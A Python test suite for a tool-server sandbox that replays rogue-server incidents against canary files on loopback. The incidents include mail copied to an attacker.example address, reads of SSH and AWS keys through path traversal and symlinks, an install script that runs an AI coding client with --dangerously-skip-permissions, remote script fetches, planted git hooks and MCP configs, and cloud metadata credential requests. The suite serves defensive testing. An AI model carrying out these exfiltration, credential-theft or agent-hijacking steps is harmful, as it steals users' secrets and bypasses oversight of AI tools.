"""What servers of others were caught at, replayed: each does its harm bare, and in a cell what it may do there; and what
the record has of it afterwards, which is not always all.

Neighbours: `servers/incidents.py` does it, `test_install` has the install script of a package that is fetched.
Never: reaches anything beyond this host's loopback, or a real home.
"""

import http.server
import json
import pathlib
import socketserver
import zlib

import case
import fixtures
import host

CANARY = "toolcell-canary"
METADATA = "http://169.254.169.254/latest/meta-data/iam"
COPY = "copy@attacker.example"
# A client of the person's own, which writes down what it is asked.
CLIENT = "#!/bin/sh\necho \"$@\" > {}\n"


class Relay(socketserver.StreamRequestHandler):
    """Takes mail."""

    timeout = 20

    def handle(self):
        """Keeps what comes to its end."""
        said = []
        for line in self.rfile:
            said.append(line.decode().strip())
            if said[-1] == "QUIT":
                self.server.mails.append(said)
                self.wfile.write(b"250 ok\r\n")


class Page(http.server.BaseHTTPRequestHandler):
    """One page at every path."""

    def do_GET(self):
        """Answers."""
        self.send_response(200)
        self.end_headers()
        self.wfile.write(self.server.page.encode())

    def log_message(self, *_):
        """Says nothing."""


class Incident(case.Case):
    """A home and a project with canaries, and a server that is called once bare and once in a cell."""

    def setUp(self):
        super().setUp()
        self.victim = self.directory("victim")
        for name in (".ssh/id_rsa", ".kube/config", "data-of-others/file", ".aws/credentials"):
            self.put(name, CANARY)
        self.data = self.victim / "data"
        self.put("data/file", "hello")
        # Of a file that the host has and the cell lacks, it is told that it was to be opened.
        self.profile = self.work / "told.toml"
        self.profile.write_text('extends = "default"\nobserve = "files"\n', encoding="utf-8")

    def put(self, name, text):
        """A file of the victim's."""
        path = self.victim / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        return path

    def relay(self):
        """A mail relay: what it took, and its port."""
        server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Relay)
        server.mails = []
        return server.mails, self.serve(server)

    def page(self, text):
        """The address of a page."""
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
        server.page = text
        return f"http://127.0.0.1:{self.serve(server)}/"

    def bare(self, tool, **arguments):
        """What the tool answers without a cell."""
        with self.open_bare(fixtures.incidents()) as peer:
            peer.open()
            return case.text_of(peer.call(1, tool, arguments))

    def celled(self, options, tool, **arguments):
        """What it answers in a cell, and the record of that."""
        self.audit.unlink(missing_ok=True)
        with self.open_celled(fixtures.incidents(f"--profile={self.profile}", *options)) as peer:
            peer.open()
            text = case.text_of(peer.call(1, tool, arguments))
        started, finished = (next(record for record in self.records() if record["event"] == event
                                  and record["call"]["target"] == tool) for event in ("started", "finished"))
        self.assertEqual(started["parameters"]["value"]["arguments"], arguments)
        return text, finished

    def refused(self, record, layer):
        """What the layer is on record for having refused."""
        return [each["object"] for each in record["violations"] if each["layer"] == layer]


class Mail(Incident):
    """A copy of each mail for the server's author."""

    def test_to_the_host_that_is_allowed(self):
        # The cell cannot know a mail that was asked for from one that was not: the record has where it went, and how much.
        mails, port = self.relay()
        plain = {"port": port, "recipient": "friend@example.org", "text": "hello"}
        self.assertEqual(self.bare("send_mail", **plain, copy=COPY), "250 ok")
        sent = []
        for arguments in (plain, {**plain, "copy": COPY}):
            text, record = self.celled([f"--net=127.0.0.1:{port}"], "send_mail", **arguments)
            self.assertEqual(text, "250 ok")
            connection, = record["traffic"]["connections"]
            self.assertEqual(connection["to"], f"127.0.0.1:{port}")
            sent.append(connection["up"])
        self.assertEqual([f"RCPT TO:<{COPY}>" in mail for mail in mails], [True, False, True])
        self.assertEqual(sent[1] - sent[0], len(f"RCPT TO:<{COPY}>\r\n"))
        self.assertNotIn(COPY, json.dumps(record["traffic"]))

    def test_past_the_host_that_is_allowed(self):
        (_, port), (copies, other) = self.relay(), self.relay()
        arguments = {"port": port, "recipient": "friend@example.org", "text": "hello", "copy": COPY, "other": other}
        self.bare("send_mail", **arguments)
        self.assertEqual(len(copies), 1)
        text, record = self.celled([f"--net=127.0.0.1:{port}"], "send_mail", **arguments)
        self.assertEqual((text, len(copies)), ("250 ok", 1))
        self.assertEqual(self.refused(record, "network"), [f"127.0.0.1:{other}"])


class Git(Incident):
    """Repositories where none should be, and files in them that no repository has."""

    def test_a_repository_among_keys(self):
        keys = self.victim / ".ssh"
        self.assertEqual(self.bare("git_init", path=str(keys)), "written")
        self.assertTrue((keys / ".git" / "HEAD").is_file())
        (keys / ".git").rename(self.victim / "moved")
        text, record = self.celled([f"--write={self.data}"], "git_init", path=str(keys))
        self.assertNotEqual(text, "written")
        self.assertEqual([path.name for path in keys.iterdir()], ["id_rsa"])
        # A directory that cannot be made is no file that is opened: the record has the call, and nothing of what it met.
        self.assertEqual((record["status"]["kind"], record["violations"]), ("completed", []))

    def test_a_file_from_elsewhere(self):
        (self.data / ".git" / "objects").mkdir(parents=True)
        added = self.data / ".git" / "objects" / "added"
        arguments = {"repository": str(self.data), "file": "../.kube/config"}
        self.assertEqual(self.bare("git_add", **arguments), "added")
        self.assertEqual(zlib.decompress(added.read_bytes()).decode(), CANARY)
        added.unlink()
        text, record = self.celled([f"--write={self.data}"], "git_add", **arguments)
        self.assertEqual((text, added.exists()), ("FileNotFoundError", False))
        self.assertEqual(self.refused(record, "root"), [str(self.victim / ".kube/config")])


class Files(Incident):
    """A server that compares names."""

    def holes(self, path, told):
        """Reads by `path`, of which the record has `told`."""
        arguments = {"allowed": str(self.data), "path": str(path)}
        self.assertEqual(self.bare("read_file", **arguments), CANARY)
        text, record = self.celled([f"--read={self.data}"], "read_file", **arguments)
        self.assertEqual(text, "FileNotFoundError")
        self.assertEqual(self.refused(record, "root"), told)
        within = {**arguments, "path": str(self.data / "file")}
        self.assertEqual(self.celled([f"--read={self.data}"], "read_file", **within)[0], "hello")

    def test_a_name_that_begins_like_it(self):
        path = self.victim / "data-of-others/file"
        self.holes(path, [str(path)])

    def test_a_link_in_it(self):
        link = self.data / "link"
        link.symlink_to("../.ssh/id_rsa")
        # toolcell follows no link to look whether the host has what the cell lacks: the record has the name in the call.
        self.holes(link, [])


class Code(Incident):
    """What comes with a package, or after it."""

    def test_an_install_script(self):
        driven = self.victim / "driven"
        client = self.put(".local/bin/client", CLIENT.format(driven))
        client.chmod(0o755)
        arguments = {"home": str(self.victim), "client": str(client)}
        keys = [str(self.victim / name) for name in (".aws/credentials", ".ssh/id_rsa")]
        self.assertEqual(json.loads(self.bare("postinstall", **arguments)), {"found": keys, "asked": "asked"})
        self.assertIn("--dangerously-skip-permissions", driven.read_text(encoding="utf-8"))
        driven.unlink()
        text, record = self.celled([], "postinstall", **arguments)
        self.assertEqual(json.loads(text), {"found": [], "asked": "FileNotFoundError"})
        self.assertFalse(driven.exists())
        # The home that it walked through, and the client that it would have driven.
        self.assertEqual(self.refused(record, "root"), [str(self.victim), str(client)])

    def test_a_package_manager_on_first_use(self):
        cache = self.directory("cache")
        ran = cache / "ran"
        registry = self.page("echo ran > ran\n")
        arguments = {"registry": registry, "cache": str(cache)}
        self.assertEqual(self.bare("fetch", **arguments), "with the helper")
        self.assertTrue(ran.exists())
        cache = self.directory("cache")
        text, record = self.celled([f"--write={cache}"], "fetch", **arguments)
        self.assertNotEqual(text, "with the helper")
        self.assertEqual(list(cache.iterdir()), [])
        self.assertEqual(self.refused(record, "network"), [registry.split("/")[2]])


class Worm(Incident):
    """Hooks, workflows, rogue servers; then it detaches and asks for the machine's own credentials."""

    def setUp(self):
        super().setUp()
        self.project = self.victim / "project"
        for part in ("objects", "refs/heads", "hooks"):
            (self.project / ".git" / part).mkdir(parents=True)
        self.put("project/.git/HEAD", "ref: refs/heads/main\n")
        self.put("project/.git/config", "[core]\n")

    def left(self):
        """What is there beside the repository as it was."""
        return sorted(str(path) for path in (*self.project.rglob("*"), self.victim / ".claude.json", self.victim / ".cursor/mcp.json")
                      if path.is_file() and path.name not in ("HEAD", "config"))

    def spread(self, writes):
        """Lets it go, bare and in a cell that writes so; what it answers there, and the record."""
        role = self.page(CANARY)
        arguments = {"project": str(self.project), "home": str(self.victim)}
        before = host.descendants()
        answer = json.loads(self.bare("spread", **arguments, metadata=[role]))
        self.assertEqual((len(answer["left"]), answer["role"]), (7, [CANARY]))
        self.assertIn(str(self.project / ".git/hooks/post-commit"), self.left())
        self.assertEqual(len(host.descendants().keys() - before.keys()), 1, "nobody stayed behind")
        self.kill_leftovers()
        for path in map(pathlib.Path, self.left()):
            path.unlink()
        options = [f"--write={self.project}", f"--writes={writes}"]
        text, record = self.celled(options, "spread", **arguments, metadata=[role, METADATA])
        self.assertEqual(self.left(), [])
        self.assertEqual(host.descendants(), before)
        asked = [role.split("/")[2], "169.254.169.254:80"]
        self.assertEqual(sorted(self.refused(record, "network")), sorted(asked))
        return text, record

    def test_spreading(self):
        text, _ = self.spread("direct")
        answer = json.loads(text)
        self.assertEqual(answer["left"], [])
        self.assertNotIn(CANARY, text)

    def test_spreading_under_review(self):
        # What it wrote to memory of its cell is on record, and the client hears that nothing was done.
        text, record = self.spread("review")
        self.assertIn(str(self.project / ".mcp.json"), self.refused(record, "review"))
        self.assertEqual(record["changes"]["verdict"], "refused")
        self.assertNotIn('"left"', text)
